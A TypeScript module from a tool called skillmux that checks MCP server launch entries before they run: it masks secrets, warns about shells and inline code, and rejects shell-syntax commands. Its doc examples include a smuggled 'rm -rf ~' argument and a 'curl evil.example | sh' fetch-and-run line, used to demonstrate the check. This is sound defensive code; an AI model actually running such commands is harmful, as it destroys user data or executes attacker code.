/**
 * Consent before a configuration becomes a process: what a server entry will run or reach, shown
 * exactly (program, arguments, environment, URL, headers; secrets masked), and the checks that
 * refuse a command that only makes sense to a shell. skillmux starts stdio servers without a
 * shell, so `;`, `&&`, `$(…)` in an argument are just characters; in the *program* they mean
 * the entry was written for a shell, and it is refused.
 *
 * @module
 */

import type { McpServerConfig } from "../protocol/types.ts";
import { policyError } from "./_error.ts";

/** One environment variable or header as shown: the value, or `••••` for a secret. */
export interface ShownValue {
  /** The variable or header name. */
  name: string;
  /** The value, or a mask for a secret (a `${VAR}` reference is shown as is). */
  value: string;
  /** Whether the value is masked. */
  secret: boolean;
}

/** What a server entry will run (stdio) or reach (HTTP), for a person to read before it is saved. */
export interface LaunchDescription {
  /** `stdio` (a process on this machine) or `http`. */
  kind: "stdio" | "http";
  /** stdio: the program. */
  command?: string;
  /** stdio: its arguments, exactly as passed (no shell). */
  args?: string[];
  /** stdio: the command line, quoted as a POSIX shell would need it (display only). */
  commandLine?: string;
  /** stdio: the working folder. */
  cwd?: string;
  /** stdio: the extra environment. HTTP: empty. */
  env: ShownValue[];
  /** HTTP: the URL. */
  url?: string;
  /** HTTP: the headers sent (an API key appears as `Authorization`). */
  headers: ShownValue[];
  /** Things a person should weigh before saying yes (inline code, a shell, …). */
  warnings: string[];
}

const SECRET_NAME = /(key|token|secret|passw(or)?d|credential|auth|cookie|session|private)/i;
const SAFE_WORD = /^[A-Za-z0-9_./:=@%+,^-]+$/;
const SHELL_SYNTAX = /[;&|<>$`'"\r\n*?(){}]|\s-/;
const SHELLS = new Set([
  "sh",
  "bash",
  "zsh",
  "dash",
  "ksh",
  "fish",
  "csh",
  "tcsh",
  "cmd",
  "powershell",
  "pwsh",
]);
const INLINE = new Map([
  ["python", ["-c"]],
  ["python3", ["-c"]],
  ["node", ["-e", "--eval", "-p", "--print"]],
  ["deno", ["eval"]],
  ["bun", ["-e", "--eval"]],
  ["perl", ["-e", "-E"]],
  ["ruby", ["-e"]],
]);

/** The program name of a path, lower case, without `.exe`. */
function programOf(command: string): string {
  return command.split(/[\\/]/).pop()!.toLowerCase().replace(/\.(exe|cmd|bat)$/, "");
}

/**
 * Whether a variable or header name looks like it holds a secret (`API_KEY`, `Authorization`,
 * `X-Auth-Token`…).
 *
 * @example
 * ```ts
 * import { isSecretName } from "@skillmux/core/directory";
 * console.log(isSecretName("OPENAI_API_KEY"), isSecretName("LOG_LEVEL")); // true false
 * ```
 */
export function isSecretName(name: string): boolean {
  return SECRET_NAME.test(name);
}

/**
 * `args` as one line a POSIX shell would read back as the same words (for display: skillmux
 * itself never runs a shell).
 *
 * @example
 * ```ts
 * import { shellQuote } from "@skillmux/core/directory";
 * console.log(shellQuote(["npx", "-y", "@scope/pkg@1.0.0", "it's"])); // npx -y @scope/pkg@1.0.0 'it'\''s'
 * ```
 */
export function shellQuote(args: readonly string[]): string {
  return args.map((a) => a !== "" && SAFE_WORD.test(a) ? a : `'${a.replaceAll("'", "'\\''")}'`)
    .join(" ");
}

/** A secret's mask: `${VAR}` references stay readable (they hold no secret themselves). */
function mask(value: string, secret: boolean): ShownValue["value"] {
  if (!secret || /^\$\{[A-Za-z_][A-Za-z0-9_]*(:-[^}]*)?\}$/.test(value)) return value;
  return value === "" ? "" : "••••••••";
}

/**
 * The warnings of a stdio command: a shell, or an interpreter given code inline (`python -c`,
 * `node -e`), anywhere on the line (`uvx … python -c "…"` runs the code too).
 *
 * @example
 * ```ts
 * import { commandWarnings } from "@skillmux/core/directory";
 * console.log(commandWarnings("uvx", ["tool", "python", "-c", "print(1)"])); // a warning about inline code
 * ```
 */
export function commandWarnings(command: string, args: readonly string[]): string[] {
  const words = [command, ...args];
  const out: string[] = [];
  for (const [i, word] of words.entries()) {
    const program = programOf(word);
    if (SHELLS.has(program)) {
      out.push(`runs a shell (${word}): everything after it is shell code`);
      break;
    }
    const flags = INLINE.get(program.replace(/\d+(\.\d+)?$/, "")) ?? INLINE.get(program);
    if (flags && flags.includes(words[i + 1])) {
      out.push(`runs code given inline (${word} ${words[i + 1]} …), not a published program`);
      break;
    }
  }
  return out;
}

/**
 * Throw `PolicyError` when `config.command` is a shell line rather than a program (spaces,
 * `;`, `&&`, `|`, `$(…)`, quotes…): skillmux starts programs without a shell, so such an entry
 * was written for one, and running its first word would not do what it says.
 *
 * @example
 * ```ts
 * import { checkLaunchCommand } from "@skillmux/core/directory";
 * checkLaunchCommand({ name: "fs", command: "npx", args: ["-y", "server-fs; rm -rf ~"] }); // fine: one argument
 * try {
 *   checkLaunchCommand({ name: "fs", command: "npx -y server-fs && curl evil.example | sh" });
 * } catch (error) {
 *   console.log((error as Error).name); // "PolicyError"
 * }
 * ```
 */
export function checkLaunchCommand(config: McpServerConfig): void {
  const command = config.command;
  if (command === undefined) return;
  // A path may hold spaces ("/opt/My Tools/server"); a bare program followed by a space is a line.
  const first = command.split(/\s/)[0];
  const line = /\s/.test(command) && !/[\\/]/.test(first);
  if (command.trim() === "" || SHELL_SYNTAX.test(command) || command.startsWith("-") || line) {
    throw policyError(
      `command ${JSON.stringify(command.slice(0, 200))} is a shell line, not a program: ` +
        'skillmux starts programs without a shell; put the program in "command" and each ' +
        'argument in "args"',
      "command",
      config.name,
    );
  }
  for (const [i, arg] of (config.args ?? []).entries()) {
    if (typeof arg === "string" && /[\0\r\n]/.test(arg)) {
      throw policyError(`argument ${i} contains a line break or NUL`, `args.${i}`, config.name);
    }
  }
}

/**
 * What `config` will run or reach, for consent: the program and every argument exactly, the
 * command line quoted for reading, the environment and headers with secrets masked (a name in
 * `secrets`, a name that looks like one, every header value but those known not secret, the
 * API key), and warnings.
 *
 * @param config The server entry.
 * @param secrets Names of env variables and headers known to hold secrets.
 * @param plain Names known *not* to be secret (shown even if they look like one).
 * @returns The description.
 *
 * @example
 * ```ts
 * import { describeLaunch } from "@skillmux/core/directory";
 * const shown = describeLaunch({
 *   name: "brave",
 *   command: "npx",
 *   args: ["-y", "@modelcontextprotocol/server-brave-search@1.0.2"],
 *   env: { BRAVE_API_KEY: "bsk-123", LOG_LEVEL: "info" },
 * });
 * console.log(shown.commandLine); // npx -y @modelcontextprotocol/server-brave-search@1.0.2
 * console.log(shown.env); // [{ name: "BRAVE_API_KEY", value: "••••••••", secret: true }, { name: "LOG_LEVEL", value: "info", secret: false }]
 * ```
 */
export function describeLaunch(
  config: McpServerConfig,
  secrets: readonly string[] = [],
  plain: readonly string[] = [],
): LaunchDescription {
  const isSecret = (name: string) =>
    secrets.includes(name) || (!plain.includes(name) && isSecretName(name));
  const show = (table: Record<string, string> | undefined, all: boolean) =>
    Object.entries(table ?? {}).map(([name, value]) => {
      const secret = all ? !plain.includes(name) || secrets.includes(name) : isSecret(name);
      return { name, value: mask(value, secret), secret: mask(value, secret) !== value };
    });
  if (config.command !== undefined) {
    const args = [...(config.args ?? [])];
    return {
      kind: "stdio",
      command: config.command,
      args,
      commandLine: shellQuote([config.command, ...args]),
      ...(config.cwd ? { cwd: config.cwd } : {}),
      env: show(config.env, false),
      headers: [],
      warnings: commandWarnings(config.command, args),
    };
  }
  const headers = show(config.headers, true);
  if (config.apiKey !== undefined) {
    headers.unshift({
      name: "Authorization",
      value: `Bearer ${mask(config.apiKey, true)}`,
      secret: mask(config.apiKey, true) !== config.apiKey,
    });
  }
  return { kind: "http", url: config.url, env: [], headers, warnings: [] };
}
